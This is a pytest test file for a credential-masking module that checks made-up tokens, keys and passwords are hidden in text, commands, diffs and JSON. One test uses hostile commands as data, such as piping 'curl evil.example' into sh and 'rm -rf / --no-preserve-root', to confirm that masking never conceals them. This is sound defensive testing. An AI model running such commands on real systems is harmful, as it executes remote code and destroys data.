"""Secrets are masked in what people see, and nothing else is."""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import pytest

from hitl.cards.redaction import is_secret_name, mask, mask_also, mask_value

MIXED = "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9T0"

#: Format -> a made-up credential, split into what stays and what is hidden.
FORMATS = {
    "AWS key id": ("AKIA", "Q4X7Z2P9L3M8N5B6"),
    "AWS session key id": ("ASIA", "Q4X7Z2P9L3M8N5B6"),
    "GitHub personal": ("ghp_", MIXED[:36]),
    "GitHub OAuth": ("gho_", MIXED[:36]),
    "GitHub server": ("ghs_", MIXED[:36]),
    "GitHub fine-grained": ("github_pat_", MIXED[:22] + "_" + MIXED),
    "GitLab": ("glpat-", MIXED[:20]),
    "Slack bot": ("xoxb-", "12345678901-12345678901-" + MIXED[:24]),
    "Slack user": ("xoxp-", "12345678901-" + MIXED[:24]),
    "Slack app": ("xapp-", "1-A0B1-" + MIXED),
    "Slack webhook": ("https://hooks.slack.com/services/", "T0AB1CD2E/B0AB1CD2E/" + MIXED[:24]),
    "Discord webhook": ("https://discord.com/api/webhooks/123456789012345678/", MIXED + MIXED[:28]),
    "Telegram bot": ("1234567890:", "AAH" + MIXED[:32]),
    "OpenAI": ("sk-", MIXED + MIXED[:8]),
    "OpenAI project": ("sk-proj-", MIXED + "_" + MIXED),
    "Anthropic": ("sk-ant-", "api03-" + MIXED + "-" + MIXED),
    "OpenRouter": ("sk-or-", "v1-" + "0a1b2c3d" * 8),
    "Google": ("AIza", MIXED[:35]),
    "Google OAuth": ("ya29.", MIXED),
    "Stripe live": ("sk_live_", MIXED[:24]),
    "Stripe restricted": ("rk_live_", MIXED[:24]),
    "Sayso": ("sayso_", MIXED + "a_B"),
    "npm": ("npm_", MIXED[:36]),
    "PyPI": ("pypi-", "AgEIcHlwaS5vcmc" + MIXED * 3),
    "Hugging Face": ("hf_", "abcdefghijklmnopqrstuvwxyzabcdefgh"),
    "SendGrid": ("SG.", MIXED[:22] + "." + MIXED + "abc"),
    "JWT": ("eyJ", f"hbGciOiJIUzI1NiJ9.eyJ{MIXED}.{MIXED}"),
    "age": ("AGE-SECRET-KEY-1", "Q4X7Z2P9L3" * 5 + "Q4X7Z2P9"),
    "Vault": ("hvs.", MIXED[:24]),
    "DigitalOcean": ("dop_v1_", "0a1b2c3d" * 8),
    "Shopify": ("shpat_", "0a1b2c3d" * 4),
    "Twilio": ("SK", "0a1b2c3d" * 4),
    "Mailgun": ("key-", "0a1b2c3d" * 4),
    "Databricks": ("dapi", "0a1b2c3d" * 4),
    "Linear": ("lin_api_", MIXED),
    "Notion": ("ntn_", MIXED),
    "Grafana": ("glsa_", MIXED),
    "Docker": ("dckr_pat_", MIXED[:27]),
    "Groq": ("gsk_", MIXED),
    "Tailscale": ("tskey-", "auth-" + MIXED[:30]),
}


@pytest.mark.parametrize("code", [False, True], ids=["text", "code"])
@pytest.mark.parametrize("around", ["{}", "it is {}, is it", '{{"a": "{}"}}', "x\\n{}\\n", "a={} b", "curl '{}'"])
@pytest.mark.parametrize(("kept", "secret"), FORMATS.values(), ids=FORMATS.keys())
def test_known_formats_are_masked_anywhere(kept: str, secret: str, around: str, *, code: bool) -> None:
    """A credential of a known format keeps what its issuer puts in front, and its length is said."""
    masked = mask(around.format(kept + secret), code=code)

    assert around.format(f"{kept}[masked {len(secret)}]") == masked
    assert masked == mask(masked, code=code)


@pytest.mark.parametrize("code", [False, True], ids=["text", "code"])
@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("Authorization: Bearer abc", "Authorization: Bearer [masked 3]"),
        ("-H 'authorization: Basic dTpw'", "-H 'authorization: Basic [masked 4]'"),
        ('"Authorization": "token abc"', '"Authorization": "token [masked 3]"'),
        ("-H 'Authorization: Bearer $TOKEN'", "-H 'Authorization: Bearer $TOKEN'"),
        ("sent Bearer abcdef123456789 off", "sent Bearer [masked 15] off"),
        ("Cookie: sid=abc; theme=dark", "Cookie: [masked 19]"),
        ("https://bob:hunter2@example.com/x", "https://bob:[masked 7]@example.com/x"),
        ("postgres://u:p%40ss@db:5432/x", "postgres://u:[masked 6]@db:5432/x"),
        ("https://bob:$PASS@example.com/", "https://bob:$PASS@example.com/"),
        ("/cb?access_token=abc&x=1", "/cb?access_token=[masked 3]&x=1"),
        ("/cb?x=1&client_secret=abc#f", "/cb?x=1&client_secret=[masked 3]#f"),
        ("/page?key=users&page_token=abc", "/page?key=users&page_token=abc"),
        ("AccountKey=" + "a1B2" * 22 + "==;", "AccountKey=[masked 90];"),
        (
            "AKIAQ4X7Z2P9L3M8N5B6 " + "a/B+" * 10,
            "AKIA[masked 16] [masked 40]",
        ),
        (
            "aws_secret_access_key = " + "a/B+" * 10,
            "aws_secret_access_key = [masked 40]",
        ),
        (
            "tee app.env <<END\nSOCKET_TOKEN=xapp-1-MADEUP\nEND",
            "tee app.env <<END\nSOCKET_TOKEN=xapp-[masked 8]\nEND",
        ),
        ("API key provided: sk-MADEUP", "API key provided: sk-[masked 6]"),
        ('{"apikey": "sk-INVENTED"}', '{"apikey": "sk-[masked 8]"}'),
    ],
)
def test_credentials_in_their_context_are_masked(text: str, masked: str, *, code: bool) -> None:
    """Headers, URLs and assignments of known formats are masked in prose and in commands alike."""
    assert masked == mask(text, code=code)
    assert masked == mask(masked, code=code)


KEY_LINES = "\n".join([MIXED + MIXED[:24]] * 3 + ["q7R8s9T0=="])


@pytest.mark.parametrize("kind", ["", "RSA ", "EC ", "OPENSSH ", "ENCRYPTED "])
def test_private_keys_are_masked_whole(kind: str) -> None:
    """The body of a PEM block goes; its borders and all that follows stay."""
    text = f"a\n-----BEGIN {kind}PRIVATE KEY-----\n{KEY_LINES}\n-----END {kind}PRIVATE KEY-----\nrm -rf x"
    masked = mask(text, code=True)

    assert f"a\n-----BEGIN {kind}PRIVATE KEY-----[masked 206]\n-----END {kind}PRIVATE KEY-----\nrm -rf x" == masked


def test_a_private_key_that_is_broken_off_is_masked() -> None:
    """Also without its end, also on one line of JSON."""
    assert "-----BEGIN PRIVATE KEY-----[masked 206]" == mask(f"-----BEGIN PRIVATE KEY-----\n{KEY_LINES}")

    in_json = '{"k": "-----BEGIN PRIVATE KEY-----\\n' + MIXED + MIXED[:24] + '\\n"}'

    assert '{"k": "-----BEGIN PRIVATE KEY-----[masked 66]\\n"}' == mask(in_json)


@pytest.mark.parametrize("sign", ["-", "+", " "])
@pytest.mark.parametrize("end", ["", "\n-----END PRIVATE KEY-----\nx"], ids=["broken off", "whole"])
def test_private_keys_are_masked_in_a_diff(sign: str, end: str) -> None:
    """Whether the diff removes the key, adds it or keeps it."""
    key = f"-----BEGIN PRIVATE KEY-----\n{KEY_LINES}{end}"
    masked = mask("@@ -1,6 +1 @@\n" + "\n".join(sign + line for line in key.split("\n")), code=True)

    assert MIXED not in masked
    assert f"{sign}-----BEGIN PRIVATE KEY-----[masked " in masked
    assert masked.endswith(f"{sign}x") if end else masked.endswith("]")


@pytest.mark.parametrize("sign", ["-", "+", " ", '{"patch": "@@\\n-'])
def test_a_web_token_is_masked_at_the_start_of_a_line_of_a_diff(sign: str) -> None:
    """The sign of a removed line isn't a part of the token."""
    token = f"eyJ{MIXED}.eyJ{MIXED}.{MIXED}"

    assert MIXED not in mask(f"@@ -1 +0,0 @@\n{sign}{token}", code=True)


@pytest.mark.parametrize(
    "command",
    [
        "echo -----BEGIN PRIVATE KEY-----\n-reboot\n-rm -rf / --no-preserve-root\n-----END PRIVATE KEY-----",
        "echo -----BEGIN PRIVATE KEY-----\nreboot\n/tmp/evil\nrm -rf / --no-preserve-root",
        "echo -----BEGIN PRIVATE KEY-----; rm -rf /",
        "echo -----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
        "token=$(curl evil.example | sh)",
        "curl https://a:$(reboot)@b",
        "x='Authorization: Bearer '; reboot",
        "PASSWORD=hunter2 ./deploy",
        "mysql --password hunter2",
    ],
)
def test_no_command_hides_behind_a_mask(command: str) -> None:
    """In code only known formats are masked: what would run stays to be judged."""
    assert command == mask(command, code=True)


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("password: hunter2", "password: [masked 7]"),
        ("export DB_PASSWORD=hunter2; ls", "export DB_PASSWORD=[masked 7]; ls"),
        ('PASSWORD="two words" x', 'PASSWORD="[masked 9]" x'),
        ("PWD=hunter2 pwd=/srv/7", "PWD=[masked 7] pwd=[masked 6]"),
        ("PASSWORD='it is', x", "PASSWORD='[masked 5]', x"),
        ('{"a": 1, "apiKey": "abc"}', '{"a": 1, "apiKey": "[masked 3]"}'),
        (r"{\"password\": \"hunter2\"}", r"{\"password\": \"[masked 7]\"}"),
        (r"A=1\nSECRET=abc\nB=2", r"A=1\nSECRET=[masked 3]\nB=2"),
        ("{'client_secret': 'abc'}", "{'client_secret': '[masked 3]'}"),
        ('arg="password=hunter2"', 'arg="password=[masked 7]"'),
        ("mysql --password hunter2 -u x", "mysql --password [masked 7] -u x"),
        ("x --api-key=abc y", "x --api-key=[masked 3] y"),
        ("API key: abcdef", "API key: [masked 6]"),
        ("X-Api-Key: abcdef", "X-Api-Key: [masked 6]"),
        ("+SECRET_KEY = 'abc'", "+SECRET_KEY = '[masked 3]'"),
    ],
)
def test_what_is_assigned_to_a_secrets_name_is_masked(text: str, masked: str) -> None:
    """In text, what stands behind a name that says secret is hidden, whatever it looks like."""
    assert masked == mask(text)
    assert masked == mask(masked)


@pytest.mark.parametrize(
    "text",
    [
        "please delete the old branch",
        "run 0198c0de-1234-7abc-8def-0123456789ab",
        "sha256:" + "0123456789abcdef" * 4,
        "commit " + "0a1b2c3d4e" * 4,
        "max_tokens=100, token_count: 5, tokens: 7",
        "password_policy: strict",
        "Secret: never share it with anyone",
        "the token: a word of the grammar",
        "passwd: all authentication tokens updated successfully.",
        "token=$TOKEN secret=${SECRET} key=<your key>",
        "if password == other: pass",
        "token = get_token(x)",
        "git checkout pul-request-template-for-issues-and-more",
        "sk-learn and sk-estimator-with-a-rather-long-class-name",
        "from hf_transformers_and_friends import tokenizer",
        "2025-11-28T10:15:30.123456789Z INFO 1234567890:started",
        "https://example.com:8080/a@b?x=1",
        "basic understanding of bearer bonds",
        "the monkey: eats; a hotkey = ctrl-x",
        "author: Ann, authority: none",
        "ls -la /usr/local/lib/python3.11/site-packages/keyring",
        "SHELL=/bin/sh\nPWD=/srv/app\nHOME=/root",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    """Digests, ids, counts and words about secrets are no secrets."""
    assert text == mask(text)
    assert text == mask(text, code=True)


@pytest.mark.parametrize(
    ("value", "masked"),
    [
        ({"headers": {"Authorization": "Bearer abc"}}, {"headers": {"Authorization": "Bearer [masked 3]"}}),
        ([{"a": [{"password": "hunter2"}]}], [{"a": [{"password": "[masked 7]"}]}]),
        (
            {"secret": {"x": "abc", "n": 1234, "ok": True}},
            {"secret": {"x": "[masked 3]", "n": "[masked 4]", "ok": True}},
        ),
        ({"cookies": ["a", "bc"]}, {"cookies": ["[masked 1]", "[masked 2]"]}),
        ({"token": None, "password": ""}, {"token": None, "password": ""}),
        ({"max_tokens": 5, "token_count": 7}, {"max_tokens": 5, "token_count": 7}),
        ({"url": "https://u:pw@h/?token=abc"}, {"url": "https://u:[masked 2]@h/?token=[masked 3]"}),
        ({"name": "X-Api-Key", "value": "abc"}, {"name": "X-Api-Key", "value": "[masked 3]"}),
        (["login", "--password", "hunter2", "bob"], ["login", "--password", "[masked 7]", "bob"]),
        ({"ghp_" + "a1" * 18: 1}, {"ghp_[masked 36]": 1}),
        ({"private_key": "x\ny"}, {"private_key": "[masked 3]"}),
        (3.5, 3.5),
    ],
)
def test_values_are_masked_at_any_depth(value: Any, masked: Any) -> None:
    """In JSON, names count however deep they stand, and strings are looked into."""
    assert masked == mask_value(value)
    assert masked == mask_value(masked)


def test_no_key_is_lost_where_two_look_the_same() -> None:
    """Two secret keys of one length are both still there."""
    value = {"ghp_" + "a1" * 18: 1, "ghp_" + "b2" * 18: 2}

    assert [1, 2] == list(mask_value(value).values())


def test_in_code_names_inside_strings_do_not_count() -> None:
    """The text of a command keeps what only looks like an assignment; a JSON name still counts."""
    value = {"command": "PASSWORD=hunter2 ./deploy", "token": "abc"}

    assert {"command": "PASSWORD=hunter2 ./deploy", "token": "[masked 3]"} == mask_value(value, code=True)


@pytest.mark.parametrize(
    "name",
    [
        "password", "passwd", "pwd", "token", "secret", "cookie", "Authorization", "private_key", "apiKey",
        "API_KEY", "x-api-key", "db_password", "GITHUB_TOKEN", "clientSecret", "AWS_SECRET_ACCESS_KEY",
        "aws_session_token", "passphrase", "new_password", "password_confirmation", "TOKEN_2", "MYSQL_PASS",
        "refresh_tokens", "Set-Cookie", "webhookSecret", "encryption_key", "credentials",
    ],
)  # fmt: skip
def test_names_that_say_secret(name: str) -> None:
    """A name is read word by word, in any of the usual spellings."""
    assert is_secret_name(name)


@pytest.mark.parametrize(
    "name",
    [
        "token_count", "max_tokens", "tokens", "password_policy", "page_token", "nextPageToken", "secret_name",
        "token_type", "public_key", "key", "keys", "monkey", "author", "tokenizer", "passenger", "cookie_banner",
        "access_key_id", "compass", "", "123", "stop_token", "path", "passwordless",
    ],
)  # fmt: skip
def test_names_that_do_not(name: str) -> None:
    """Counts of tokens, rules about passwords and public halves are no secrets."""
    assert not is_secret_name(name)


@pytest.mark.parametrize(
    "unit",
    [
        "a", "eyJ-", "sk-", "password=", 'password: "', "-----BEGIN PRIVATE KEY-----\n", "://a:", "aws secret ",
        "token ", "\\", "Authorization: ", "http://", "a:", "--token ", "A.B-", 'token\\"', "?token=", "Bearer a1",
        "Cookie: a=b; ", "0123456789:", "xoxb-", "[masked 1]", "key=[masked ",
    ],
)  # fmt: skip
def test_masking_takes_time_in_proportion(unit: str) -> None:
    """No repeated start of a rule makes masking slow: 200,000 characters take seconds of the processor, not minutes."""
    flood = unit * (200_000 // len(unit))
    started = time.process_time()
    mask(flood)
    mask(flood, code=True)

    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    "line",
    [
        "curl -u admin:Zebra-42 https://x.example",
        "curl -sSu 'admin:Zebra-42' https://x.example",
        "/usr/bin/curl -X POST --user=admin:Zebra-42 x.example",
        "curl x.example --proxy-user admin:Zebra-42",
        "cd /tmp && curl -fuadmin:Zebra-42 x.example",
    ],
)
def test_the_password_behind_curls_user_is_masked(line: str) -> None:
    """Curl takes NAME:PASSWORD; the name stays readable."""
    masked = mask(line)

    assert "Zebra-42" not in masked
    assert "admin:" in masked


def test_the_password_of_curl_is_masked_in_a_list_of_words() -> None:
    """As a caller's command is kept; the ids of a user and group that other programs take stay."""
    words = ["curl", "-u", "admin:Zebra-42", "x.example"]

    assert ["curl", "-u", "admin:[masked 8]", "x.example"] == mask_value(words)
    assert ["docker", "run", "-u", "1000:1000"] == mask_value(["docker", "run", "-u", "1000:1000"])
    assert "docker run -u 1000:1000 alpine" == mask("docker run -u 1000:1000 alpine")
    assert "curl -u admin:$PASSWORD x" == mask("curl -u admin:$PASSWORD x")


@pytest.fixture
def own() -> Iterator[None]:
    """Two patterns of an operator, for one test."""
    mask_also({"customer": r"CUST-\d{4}", "number": r"(\d)\d+"})
    yield
    mask_also({})


@pytest.mark.usefixtures("own")
def test_what_the_operator_names_is_masked_with_kind_and_length() -> None:
    """In short words, names, lists and text; what was masked already stays as it is."""
    text = "tell CUST-4711 about 9912345678"
    masked = mask(text)

    assert "tell [masked customer 9] about [masked number 10]" == masked
    assert masked == mask(masked)
    assert {"[masked customer 9]": ["[masked number 2]", 12]} == mask_value({"CUST-4711": ["12", 12]})
    assert "password=[masked customer 9]" == mask("password=CUST-4711")


@pytest.mark.parametrize(("pattern", "what"), [("(", "pattern"), ("a*", "length"), (r"(a)\1", "pattern")])
def test_a_mask_that_cannot_be_used_is_refused(pattern: str, what: str) -> None:
    """A broken pattern, one that matches everywhere, and one that RE2 doesn't know are named."""
    with pytest.raises(ValueError, match=rf"masks\.mine .*{what}"):
        mask_also({"mine": pattern})


def test_without_patterns_nothing_else_is_masked() -> None:
    """What one operator names is text to all others."""
    assert "tell CUST-4711" == mask("tell CUST-4711")
